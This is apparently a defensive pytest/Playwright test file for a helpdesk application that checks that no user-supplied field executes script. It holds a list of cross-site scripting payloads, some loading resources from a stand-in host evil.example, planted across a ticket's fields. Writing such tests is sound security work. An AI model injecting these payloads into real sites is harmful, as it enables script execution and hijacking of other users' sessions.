"""trust.md criterion 27: whatever a stranger writes, into whichever field, the workspace executes none of it."""

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from playwright.sync_api import expect
from testing.browser import sign_in_page

from crewdesk.accounts.models import User
from crewdesk.core.clock import now
from crewdesk.core.events import Via
from crewdesk.core.files.store import store
from crewdesk.tickets.operations.comments import Said
from crewdesk.tickets.operations.create import create_ticket
from crewdesk.tickets.operations.reply import reply
from crewdesk.tickets.operations.uploads import add_upload, claim

CORPUS = [
    "<script>alert(1)</script>",
    '"><script src="https://evil.example/x.js"></script>',
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/pixel.png">',
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)" autofocus onfocus=alert(1)>press</a>',
    '<form action="https://evil.example/"><button autofocus>press</button></form>',
    '<style>@import url("https://evil.example/x.css"); * { background: url("https://evil.example/y") }</style>',
    '<p style="background: url(https://evil.example/z)">styled</p>',
    '<table background="https://evil.example/t"><tr><td>cell</td></tr></table>',
    '<link rel="stylesheet" href="https://evil.example/l.css"><base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "</textarea></title></style></script><img src=x onerror=alert(1)>",
    "{{ constructor.constructor('alert(1)')() }} ${alert(1)} {% debug %}",
    '\'-alert(1)-\' `${alert(1)}` \\"; alert(1); //',
    '<div hx-get="https://evil.example/" hx-trigger="load" hx-on:load="alert(1)">swap</div>',
    '<crew-toast data-key="j" onclick=alert(1)>element</crew-toast>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '" srcdoc="<script>alert(1)</script>" x="',
]  # fmt: skip


@pytest.fixture
def attacked(committed_harbor):
    """A ticket whose every word is hostile: name, address' display, subject, bodies, quotes, file names, tags and notes."""
    desk = committed_harbor
    with desk.scope():
        User.objects.filter(pk=desk.cleo.pk).update(name=CORPUS[2][:120], notes=CORPUS[17])
        desk.cleo.refresh_from_db()
        ticket = create_ticket(
            requester=desk.cleo, by=None, via=Via.EMAIL, at=now(), subject=CORPUS[0] + CORPUS[23], said=Said(body="\n\n".join(CORPUS)),
            tags=["<script>alert(1)</script>"],
        )  # fmt: skip
        for hostile in CORPUS:
            token = _file_named(hostile, desk.cleo)
            said = Said(
                html_body=f"<table><tr><td>{hostile}</td></tr></table>", quoted_html=hostile, attachments=claim(token, desk.cleo)
            )
            reply(ticket, by=desk.cleo, said=said, via=Via.EMAIL, at=now())
        reply(
            ticket,
            by=desk.ben,
            said=Said(html_body=f"<p>{CORPUS[8]}</p>", public=False),
            via=Via.WEB,
            at=now(),
            changes={"priority": "high"},
        )
    return ticket


def _file_named(name: str, by: User) -> str:
    content = SimpleUploadedFile("x.html", b"<script>alert(1)</script>")
    return add_upload(store(content, name=f"{name}.html", content_type="text/html", by=by), by=by).upload_token


def test_criterion_27_nothing_hostile_runs_or_calls_out(page, committed_harbor, attacked):
    dialogs, calls = [], []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on(
        "request",
        lambda request: calls.append(request.url) if "evil.example" in request.url or not _is_ours(request.url) else None,
    )
    sign_in_page(page, committed_harbor.ben)
    base = f"/d/{committed_harbor.desk.slug}/tickets/"
    for path in (
        "view/unsolved/",
        f"{attacked.number}/",
        "search/?q=alert",
        f"search/?q={'%22%3E%3Cscript%3Ealert(1)%3C/script%3E'}",
    ):
        page.goto(base + path)
        page.wait_for_load_state("networkidle")
    page.goto(f"{base}{attacked.number}/")
    expect(page.locator(".message").last).to_be_visible()
    for message in page.locator(".message").all():
        message.scroll_into_view_if_needed()
    page.keyboard.press("Control+k")
    page.keyboard.type("alert")
    page.wait_for_timeout(500)
    assert dialogs == []
    assert calls == []
    assert page.locator(".message script, .message [onerror], .message [onload], .message form[action^='https']").count() == 0


def _is_ours(url: str) -> bool:
    """Our own host on whichever port, and what a page makes within itself."""
    return url.startswith(("http://localhost:", "data:", "blob:", "about:"))
